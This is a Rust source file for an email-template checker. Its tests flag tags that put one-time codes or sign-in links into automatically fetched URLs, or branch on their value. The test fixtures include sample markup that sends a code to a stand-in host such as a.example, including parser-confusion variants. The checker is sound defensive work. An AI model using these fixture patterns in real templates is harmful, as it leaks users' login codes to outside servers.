//! Codes and links in what a mail fetches to be shown.
//!
//! A mail program asks for such an address by itself: whoever serves it would read the code.

use super::super::pieces::{Piece, pieces};
use super::{At, branch, walk::walk};

/// Attributes that are shown or read out, and nothing else.
const SHOWN: [&str; 3] = ["alt", "aria-label", "title"];

/// Elements whose `href` is fetched, or leads what is fetched.
const REFERRING: [&str; 6] = ["base", "link", "image", "use", "feimage", "v:fill"];

/// What opens a request, and what can hold it: the mail's own subject, and the house's sentences, of
/// which some name the code.
const SECRETS: [&str; 4] = ["otp", "link", "subject", "t"];

/// The tags that put a secret into an address that is fetched, or choose by it, and where each
/// begins.
pub(in super::super) fn secrets(source: &str) -> Vec<(usize, &str)> {
    let mut found = Vec::new();
    let (mut at, mut start, mut open) = (At::Text, 0, Vec::new());
    for piece in pieces(source).unwrap_or_default() {
        if let Piece::Output(tag) | Piece::Statement(tag) = piece
            && !only_shows(&at)
            && names(condition(piece.inner()))
        {
            found.push((start, tag));
        }
        match piece {
            Piece::Text(text) => walk(&mut at, text),
            // Branches that do not meet are refused elsewhere.
            Piece::Statement(_) if branch(&mut at, &mut open, piece.inner()).is_err() => break,
            Piece::Output(_) | Piece::Statement(_) | Piece::Comment(_) => {}
        }
        start += piece.len();
    }
    found
}

/// Whether what stands there only shows, or leads on when somebody clicks. Everywhere else it could
/// be fetched, or choose what is: by a class, a `media`, an attribute that the next mail program knows.
fn only_shows(at: &At) -> bool {
    match at {
        At::Text | At::Comment | At::Raw("title") => true,
        At::Value {
            element, attribute, ..
        } => {
            let leads = attribute == "href" && !REFERRING.contains(&element.as_str());
            leads || SHOWN.contains(&attribute.as_str())
        }
        At::Raw(_) | At::Tag { .. } => false,
    }
}

/// The tags that ask more of a secret than whether it is there, or show something else in its place by
/// what it is, and where each begins. What a mail fetches could depend on them (a style tells an empty
/// element from one with text), and a few of them tell a whole code.
pub(in super::super) fn conditions(source: &str) -> Vec<(usize, &str)> {
    let (mut found, mut start) = (Vec::new(), 0);
    for piece in pieces(source).unwrap_or_default() {
        match piece {
            Piece::Statement(tag) if asks_more(condition(piece.inner())) => {
                found.push((start, tag));
            }
            Piece::Output(tag) if chooses(piece.inner()) => {
                found.push((start, tag));
            }
            _ => {}
        }
        start += piece.len();
    }
    found
}

fn condition(inner: &str) -> &str {
    let asked = inner
        .strip_prefix("if")
        .or_else(|| inner.strip_prefix("elif"));
    asked.unwrap_or(inner)
}

/// Whether a condition uses a secret and has more than names, `and`, `or`, `not` and `is`: those tell
/// whether something is there, and cannot compare it.
fn asks_more(condition: &str) -> bool {
    let mut words = condition.split(|c: char| c.is_whitespace() || "()".contains(c));
    let is_plain = |word: &str| {
        let name = word.chars().all(|c| c.is_alphanumeric() || c == '_');
        name && !matches!(word, "in" | "if" | "else")
    };
    names(condition) && !words.all(is_plain)
}

/// Whether an output uses a secret otherwise than as it is, in part, or with other text around it. What else an
/// expression may do is not asked: a table that is looked into by it tells as much as a comparison.
fn chooses(expression: &str) -> bool {
    if !names(expression) {
        return false;
    }
    let mut rest = expression;
    loop {
        match shown(rest).map(str::trim_start) {
            Some("") => return false,
            Some(more) => match more.strip_prefix('~') {
                Some(next) => rest = next,
                None => return true,
            },
            None => return true,
        }
    }
}

/// What filters leave of a text: as much as there was.
const KEEPING: [&str; 2] = ["upper", "lower"];

/// What follows a text in quotes, a sentence of ours, or a name with its slices and filters; none for anything else.
fn shown(expression: &str) -> Option<&str> {
    let expression = expression.trim_start();
    if expression.starts_with(['"', '\'']) {
        return quoted(expression);
    }
    let end = expression.find(|c: char| !(c.is_alphanumeric() || c == '_'));
    let (name, rest) = expression.split_at(end.unwrap_or(expression.len()));
    let is_name =
        name.starts_with(|c: char| c.is_alphabetic() || c == '_') && !WORDS.contains(&name);
    if !is_name {
        return None;
    }
    if name == "t" {
        return argument(rest);
    }
    let mut rest = rest.trim_start();
    loop {
        if let Some(slice) = rest.strip_prefix('[') {
            let (numbers, after) = slice.split_once(']')?;
            let plain = |c: char| c.is_ascii_digit() || c.is_whitespace() || "-:".contains(c);
            if !numbers.chars().all(plain) {
                return None;
            }
            rest = after.trim_start();
        } else if let Some(filter) = rest.strip_prefix('|') {
            let filter = filter.trim_start();
            let end = filter.find(|c: char| !(c.is_alphanumeric() || c == '_'));
            let (name, after) = filter.split_at(end.unwrap_or(filter.len()));
            rest = match name {
                "default" => argument(after)?,
                name if KEEPING.contains(&name) => after,
                _ => return None,
            };
            rest = rest.trim_start();
        } else {
            return Some(rest);
        }
    }
}

/// Words of the language that name nothing.
const WORDS: [&str; 7] = ["if", "else", "in", "is", "and", "or", "not"];

/// What follows one text in quotes, in parentheses.
fn argument(rest: &str) -> Option<&str> {
    let inner = rest.trim_start().strip_prefix('(')?;
    quoted(inner.trim_start())?.trim_start().strip_prefix(')')
}

/// What follows a text in quotes.
fn quoted(text: &str) -> Option<&str> {
    let quote = text.chars().next().filter(|c| "\"'".contains(*c))?;
    let mut escaped = false;
    let end = text[1..].find(|c: char| {
        let ends = c == quote && !escaped;
        escaped = c == '\\' && !escaped;
        ends
    });
    end.map(|end| &text[end + 2..])
}

/// An expression without what stands in quotes.
fn without_quoted(expression: &str) -> String {
    let (mut open, mut escaped) = (None, false);
    let outside = |c: &char| match open {
        Some(_) if escaped => {
            escaped = false;
            false
        }
        Some(quote) => {
            escaped = *c == '\\';
            if *c == quote {
                open = None;
            }
            false
        }
        None if *c == '"' || *c == '\'' => {
            open = Some(*c);
            false
        }
        None => true,
    };
    expression.chars().filter(outside).collect()
}

/// Whether an expression names a secret. By its words: the engine does not tell what a slice is of.
fn names(expression: &str) -> bool {
    let bare = without_quoted(expression);
    words(&bare).any(|word| SECRETS.contains(&word))
}

fn words(bare: &str) -> impl Iterator<Item = &str> {
    bare.split(|c: char| !(c.is_alphanumeric() || c == '_'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tags(source: &str) -> Vec<&str> {
        secrets(source).into_iter().map(|(_, tag)| tag).collect()
    }

    #[test]
    fn a_secret_in_what_is_fetched_is_found_however_it_is_written() {
        for (source, tag) in [
            ("<img src=\"https://a.example/{{ otp }}\">", "{{ otp }}"),
            (
                "<img SRC='{{ 'x' ~ link|upper }}'>",
                "{{ 'x' ~ link|upper }}",
            ),
            ("<img srcset=\"a 1x, {{ otp }} 2x\">", "{{ otp }}"),
            ("<td background = \"{{otp}}\">", "{{otp}}"),
            (
                "<img src=\"{% if otp == '1' %}a{% endif %}\">",
                "{% if otp == '1' %}",
            ),
            ("<p style=\"background:url({{ link }})\">", "{{ link }}"),
            ("<style>a{background:url({{ otp }})}</style>", "{{ otp }}"),
            (
                "<link rel=\"stylesheet\" href=\"{{ link }}\">",
                "{{ link }}",
            ),
            ("<base href=\"https://{{ otp }}.a.example/\">", "{{ otp }}"),
            (
                "<meta http-equiv=refresh content=\"0;url={{ link }}\">",
                "{{ link }}",
            ),
            (
                "<svg><rect fill=\"url(https://a.example/{{ otp }})\"/></svg>",
                "{{ otp }}",
            ),
            (
                "<!--[if mso]><v:fill src=\"{{ otp }}\"><![endif]-->",
                "{{ otp }}",
            ),
        ] {
            assert_eq!(tags(source), [tag], "{source}");
        }
    }

    #[test]
    fn so_is_what_holds_a_secret_and_a_place_that_chooses_what_is_fetched() {
        for (source, tag) in [
            (
                "<img src=\"https://a.example/?s={{ subject }}\">",
                "{{ subject }}",
            ),
            (
                "<img src=\"https://a.example/{{ t('signin-code-line') }}\">",
                "{{ t('signin-code-line') }}",
            ),
            ("<p class=\"c{{ otp[0] }}\">", "{{ otp[0] }}"),
            (
                "<textarea><p title=\"</textarea><img src='{{ otp }}'>\">",
                "{{ otp }}",
            ),
            (
                "<img x=a' src=\"https://a.example/{{ otp }}\" y=b'>",
                "{{ otp }}",
            ),
            (
                "<source media=\"{{ 'all' if otp < '5' else 'print' }}\">",
                "{{ 'all' if otp < '5' else 'print' }}",
            ),
            ("<path stroke=\"url({{ otp }})\"/>", "{{ otp }}"),
            ("<set to=\"https://a.example/{{ otp }}\">", "{{ otp }}"),
        ] {
            assert_eq!(tags(source), [tag], "{source}");
        }
    }

    #[test]
    fn links_to_click_texts_and_other_variables_are_none() {
        for source in [
            "<a href=\"{{ link }}\" title=\"{{ otp }}\">{{ otp }}</a>",
            "<img src=\"{{ app_logo_url }}\">{{ link }}",
            "<img src=\"{{ app_logo_url|default('https://a.example/link/otp') }}\">",
            "{% if otp %}<img src=\"https://a.example/x.png\">{% endif %}",
            "<p style=\"color:{{ app_color }}\">{{ otp }}</p>",
            "<title>{{ subject }}</title><img alt=\"{{ t('preview-code') }}\">",
        ] {
            assert_eq!(tags(source), [""; 0], "{source}");
        }
    }

    #[test]
    fn what_is_shown_may_be_a_secret_or_a_part_of_it_and_not_depend_on_it() {
        for shown in [
            "otp",
            "otp|upper",
            "otp[:3] ~ ' ' ~ otp[3:]",
            "otp[-3:]",
            "otp|default('a < b or c')",
            "t('signin-code-line')",
            "t( \"hello\" ) ~ otp | upper",
            "otp [ 0 ] ~ '\\'' ~ link",
            "user_name if app_name else 'otp'",
        ] {
            assert_eq!(conditions(&format!("{{{{ {shown} }}}}")), [], "{shown}");
        }
        for shown in [
            "'a' if otp < '5' else ''",
            "otp > '5'",
            "otp == '5'",
            "otp[0] in '12'",
            "otp[0:1]|trim('5')",
            "otp[0:1] | trim ('5')",
            "(otp and 'a') or ''",
            "'a\\'' ~ ('' if link else 'b')",
            "{'5': ''}[otp[0:1]]|default('x')",
            "['a', ''][otp]",
            "user_name[otp]",
            "app_name|default(otp)",
            "otp|length",
            "otp.a",
            "otp[app_name]",
            "t(otp)",
        ] {
            let source = format!("{{{{ {shown} }}}}");
            assert_eq!(conditions(&source), [(0, &*source)], "{shown}");
        }
    }

    #[test]
    fn a_condition_may_ask_whether_a_secret_is_there_and_nothing_else() {
        for asked in [
            "otp",
            "not otp",
            "otp and link",
            "(otp or link) and user_name",
            "link is defined and not (otp is undefined)",
            "link_text == 'otp'",
        ] {
            let source = format!("{{% if {asked} %}}a{{% endif %}}");
            assert_eq!(conditions(&source), [], "{asked}");
        }
        for asked in [
            "otp == '1'",
            "'500000' > otp",
            "otp[0] == 'a'",
            "user_name == ' and ' ~ otp",
            "link and (otp|length > 3)",
            "not(otp < '5')",
            "otp == ' or a'",
            "'500000' > (app_name and otp)",
            "otp if link else user_name",
            "app_name or otp in '12'",
        ] {
            let source = format!("{{% if link %}}a{{% elif {asked} %}}b{{% endif %}}");
            let tag = format!("{{% elif {asked} %}}");
            assert_eq!(conditions(&source), [(14, &*tag)], "{asked}");
        }
    }
}
